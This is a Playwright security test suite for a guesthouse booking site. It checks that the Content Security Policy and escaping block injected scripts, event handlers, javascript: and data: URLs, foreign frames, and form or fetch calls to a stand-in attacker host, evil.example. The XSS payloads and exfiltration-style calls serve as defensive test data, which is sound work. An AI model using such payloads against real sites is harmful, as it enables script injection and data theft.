import type { Page } from '@playwright/test';
import { DESKTOP, expect, test } from './fixtures';
import { framesPass, woken } from './screen';

// Injected code must not run, however it got in: these tests inject it themselves.

const PAGES_WITH_LINKS = [
  '/',
  '/sobre',
  '/quartos',
  '/quarto/6',
  '/informacoes',
  '/localizacao',
  '/contacto',
  '/reservas',
  '/politica-privacidade',
];

declare global {
  interface Window {
    /** Set by injected code when it runs. */
    hasRun?: string;
  }
}

const hasRun = async (page: Page) => page.evaluate(() => window.hasRun ?? null);

test.describe.configure({ mode: 'parallel' });

test.describe('code that got into a page', () => {
  for (const [name, markup, directive] of [
    ['a script', '<script>window.hasRun = "script"</script>', 'script-src-elem'],
    ['a module', '<script type="module">window.hasRun = "module"</script>', 'script-src-elem'],
    [
      "somebody else's script",
      '<script src="https://evil.example/x.js"></script>',
      'script-src-elem',
    ],
    [
      'a script in an address',
      '<script src="data:text/javascript,hasRun=1"></script>',
      'script-src-elem',
    ],
    ['a handler', '<img src="/nada.png" onerror="window.hasRun = 1">', 'script-src-attr'],
    ['a style sheet', '<style>body { display: none }</style>', 'style-src-elem'],
    ['a style', '<p style="position: fixed; inset: 0">Pague aqui</p>', 'style-src-attr'],
    ['a frame', '<iframe srcdoc="<script>parent.hasRun = 1</script>"></iframe>', 'script-src-elem'],
    ["somebody else's frame", '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
    ['another base', '<base href="https://evil.example/">', 'base-uri'],
    ['a plug-in', '<object data="https://evil.example/x.swf"></object>', 'object-src'],
  ] as const) {
    test(`${name} is refused in the HTML`, async ({ newVisitor }) => {
      const guest = await newVisitor(DESKTOP);
      const { page, problems } = guest;
      await page.route('**/sobre', async (route) => {
        const answer = await route.fetch();
        const body = (await answer.text()).replace('<body>', `<body>${markup}`);
        await route.fulfill({ response: answer, body });
      });
      await page.goto('/sobre');
      await expect.poll(() => problems.join('\n')).toContain(`Refused by ${directive}`);
      expect(await hasRun(page)).toBeNull();
      expect(await page.locator('h1').isVisible()).toBe(true);
      expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
    });
  }

  for (const [name, attack] of [
    [
      'markup made of text',
      () => {
        document.body.innerHTML = '<img src="/nada.png" onerror="window.hasRun = 1">';
      },
    ],
    [
      'a script made of text',
      () => {
        const script = document.createElement('script');
        script.textContent = 'window.hasRun = 1';
        document.body.append(script);
      },
    ],
    [
      "somebody else's script",
      () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        document.body.append(script);
      },
    ],
    [
      'a handler',
      () => {
        document.body.setAttribute('onclick', 'window.hasRun = 1');
        document.body.click();
      },
    ],
    [
      'a link that is code',
      () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.hasRun = 1';
        document.body.append(link);
        link.click();
      },
    ],
  ] as const) {
    test(`${name} is refused at run time`, async ({ newVisitor }) => {
      const guest = await newVisitor(DESKTOP);
      const { page, problems } = guest;
      await page.goto('/');
      await page.evaluate(attack).catch(() => {});
      await expect
        .poll(() => problems.join('\n'))
        .toMatch(/Refused by (script-src|require-trusted)/);
      expect(await hasRun(page)).toBeNull();
    });
  }

  test('a form cannot carry what is typed elsewhere', async ({ newVisitor }) => {
    const guest = await newVisitor(DESKTOP);
    const { page, problems } = guest;
    await page.goto('/contacto');
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    });
    await expect.poll(() => problems.join('\n')).toContain('Refused by form-action');
  });

  test('nobody may ask another backend, nor frame the site', async ({ newVisitor }) => {
    const guest = await newVisitor(DESKTOP);
    const { page, problems } = guest;
    await page.goto('/');
    await page.evaluate(async () => fetch('https://evil.example/?mail=1').catch(() => {}));
    await expect.poll(() => problems.join('\n')).toContain('Refused by connect-src');

    const refusals: string[] = [];
    page.on('requestfailed', (request) => refusals.push(request.failure()?.errorText ?? ''));
    await page.route('**/moldura', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<iframe src="/admin/login"></iframe>' }),
    );
    await page.goto('/moldura');
    await expect.poll(() => refusals).toContain('net::ERR_BLOCKED_BY_RESPONSE');
  });
});

test.describe('what is stored is shown, and never run', () => {
  const CODE = 'javascript:window.hasRun=1';

  test('an address of a room that is code is neither a picture nor a link', async ({
    newVisitor,
  }) => {
    const guest = await newVisitor(DESKTOP);
    const { page, problems } = guest;
    await page.route('**/rest/v1/rooms*', async (route) => {
      const answer = await route.fetch();
      const rooms: unknown = await answer.json();
      const spoilt = (room: object) => ({
        ...room,
        images: [CODE, 'data:image/svg+xml,<svg onload="hasRun=1"/>', '//evil.example/a.png'],
        booking_url: CODE,
        airbnb_url: ' data:text/html,<script>opener.hasRun=1</script>',
      });
      await route.fulfill({
        json: Array.isArray(rooms) ? rooms.map(spoilt) : spoilt(Object(rooms)),
      });
    });
    for (const path of ['/quartos', '/quarto/6', '/reservas?guests=2']) {
      const spoiltRooms = page.waitForResponse('**/rest/v1/rooms*');
      await page.goto(path);
      await spoiltRooms;
      await framesPass(page);
      const addresses = await page.evaluate(() =>
        [...document.querySelectorAll('[src], [href]')].map(
          (element) => element.getAttribute('src') ?? element.getAttribute('href') ?? '',
        ),
      );
      expect(addresses.filter((address) => /^\s*(javascript|data):|evil/i.test(address))).toEqual(
        [],
      );
    }
    expect(problems).toEqual([]);
    expect(await hasRun(page)).toBeNull();
  });

  test("a message's markup is text to whoever reads it", async ({ newVisitor, newStaff }) => {
    const MARKUP = '<img src=x onerror="window.hasRun=1"><script>window.hasRun=1</script>';
    const guest = await newVisitor(DESKTOP);
    await guest.page.goto('/contacto');
    await woken(guest.page);
    await guest.page.getByLabel('Nome').fill('<b>Rui</b> Tavares');
    await guest.page.getByLabel('Email').fill('rui.tavares@example.com');
    await guest.page.getByLabel('Assunto').selectOption({ label: 'Feedback' });
    await guest.page.getByLabel('Mensagem').fill(MARKUP);
    await guest.page.getByRole('button', { name: /Enviar/ }).click();
    await guest.page.getByText('Mensagem enviada com sucesso!').waitFor();

    const staff = await newStaff(DESKTOP);
    await staff.page.goto('/admin/contact-messages');
    await staff.page.getByText('<b>Rui</b> Tavares').first().click();
    await staff.page.getByText(MARKUP).first().waitFor();
    expect(await hasRun(staff.page)).toBeNull();
    expect([...guest.problems, ...staff.problems]).toEqual([]);
  });
});

test('no link of the site leads anywhere unsafe', async ({ newVisitor }) => {
  const guest = await newVisitor(DESKTOP);
  const { page } = guest;
  for (const path of PAGES_WITH_LINKS) {
    await page.goto(path);
    const links = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map((link) => ({
        href: link.href,
        protocol: link.protocol,
        isElsewhere: link.protocol.startsWith('http') && link.origin !== window.location.origin,
        target: link.target,
        rel: link.rel.split(' '),
      })),
    );
    expect(links.length).toBeGreaterThan(5);
    const unsafe = links.filter(
      ({ protocol, isElsewhere, target, rel }) =>
        !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol) ||
        (isElsewhere && target !== '_blank') ||
        (target !== '' && !(rel.includes('noopener') && rel.includes('noreferrer'))),
    );
    expect(unsafe).toEqual([]);
  }
});
